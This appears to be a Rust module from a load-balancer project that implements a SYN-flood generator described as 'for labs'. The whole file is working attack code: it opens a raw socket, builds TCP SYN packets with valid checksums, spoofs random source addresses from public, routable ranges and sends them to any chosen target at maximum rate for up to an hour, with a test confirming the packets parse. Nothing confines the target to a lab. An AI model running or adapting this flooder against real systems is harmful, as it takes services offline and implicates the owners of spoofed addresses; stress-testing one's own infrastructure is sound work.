//! A flood of SYNs for labs: as many as can be sent, from addresses that never answer.

use std::{
    net::{Ipv4Addr, SocketAddr, SocketAddrV4},
    time::{Duration, Instant},
};

use anyhow::{Context, Result};
use dnlb_wire::{fold, sum};
use rand::{Rng, SeedableRng, rngs::SmallRng};
use serde_json::json;
use socket2::{Domain, Protocol, Socket, Type};

/// `SOCK_RAW` and `IPPROTO_RAW`: the sender writes the IP header.
const RAW: (i32, i32) = (3, 255);
/// How many packets between two looks at the clock.
const BURST: u32 = 64;
/// Length of a packet: two headers without options.
const LEN: usize = 40;

/// What to send, and where.
#[derive(Clone, Debug, clap::Args)]
pub(crate) struct Options {
    /// Where
    #[arg(long)]
    to: SocketAddrV4,
    /// From this address and random ports; without it, from random addresses, too
    #[arg(long)]
    from: Option<Ipv4Addr>,
    /// For how long
    #[arg(long, value_parser = clap::value_parser!(u16).range(1..=3_600))]
    seconds: u16,
    /// Packets a second; without it, as many as can be sent
    #[arg(long, value_parser = clap::value_parser!(u32).range(1..))]
    rate: Option<u32>,
}

/// Sends and prints how much as JSON.
pub(crate) fn run(options: &Options) -> Result<()> {
    let socket = Socket::new(Domain::IPV4, Type::from(RAW.0), Some(Protocol::from(RAW.1)))
        .context("opening a raw socket")?;
    let to = SocketAddr::from(options.to).into();
    let mut rng = SmallRng::from_os_rng();
    let (mut sent, mut refused) = (0_u64, 0_u64);
    let (start, length) = (Instant::now(), Duration::from_secs(options.seconds.into()));
    loop {
        let elapsed = start.elapsed();
        if elapsed >= length {
            break;
        }
        if let Some(rate) = options.rate
            && (sent + refused) as f64 > elapsed.as_secs_f64() * f64::from(rate)
        {
            std::thread::sleep(Duration::from_millis(1));
            continue;
        }
        for _ in 0..BURST {
            // 16.0.0.0 to 79.255.255.255: of no network of a lab.
            let from =
                options.from.unwrap_or_else(|| Ipv4Addr::from(rng.random_range(16_u32 << 24..80 << 24)));
            let from = SocketAddrV4::new(from, rng.random_range(1_024..=u16::MAX));
            match socket.send_to(&syn(from, options.to, rng.random()), &to) {
                Ok(_) => sent += 1,
                // The device's queue is full.
                Err(_) => refused += 1,
            }
        }
    }
    println!("{}", json!({"sent": sent, "refused": refused, "seconds": start.elapsed().as_secs_f64()}));
    Ok(())
}

/// An IPv4 packet that opens a connection, with correct checksums.
fn syn(from: SocketAddrV4, to: SocketAddrV4, seq: u32) -> [u8; LEN] {
    let mut packet = [0; LEN];
    packet[..10].copy_from_slice(&[0x45, 0, 0, LEN as u8, 0, 0, 0x40, 0, 64, 6]);
    packet[12..16].copy_from_slice(&from.ip().octets());
    packet[16..20].copy_from_slice(&to.ip().octets());
    let check = !fold(sum(&packet[..20], 0));
    packet[10..12].copy_from_slice(&check.to_be_bytes());
    packet[20..22].copy_from_slice(&from.port().to_be_bytes());
    packet[22..24].copy_from_slice(&to.port().to_be_bytes());
    packet[24..28].copy_from_slice(&seq.to_be_bytes());
    // Five words, SYN, the largest window.
    packet[32..36].copy_from_slice(&[0x50, 2, 0xff, 0xff]);
    let pseudo = sum(&packet[12..20], 6 + 20);
    let check = !fold(sum(&packet[20..], pseudo));
    packet[36..38].copy_from_slice(&check.to_be_bytes());
    packet
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_syn_is_read_as_one_and_its_checksums_hold() {
        let (from, to) = ("16.1.2.3:1024".parse().unwrap(), "203.0.113.1:80".parse().unwrap());
        let packet = syn(from, to, 7);
        assert_eq!(fold(sum(&packet[..20], 0)), 0xffff);
        assert_eq!(fold(sum(&packet[20..], sum(&packet[12..20], 26))), 0xffff);
        let frame = [&[0; 12][..], &[8, 0], &packet].concat();
        let mut parsed = dnlb_wire::Packet::default();
        let ethernet = dnlb_wire::Ethernet::read(&frame.as_slice()).unwrap();
        let read = dnlb_wire::parse(&frame.as_slice(), &ethernet, &mut parsed);
        assert_eq!(read, dnlb_wire::Parsed::Packet);
        assert!(parsed.opens());
        assert_eq!((parsed.src_port, parsed.dst_port, parsed.seq), (1024, 80, 7));
    }
}
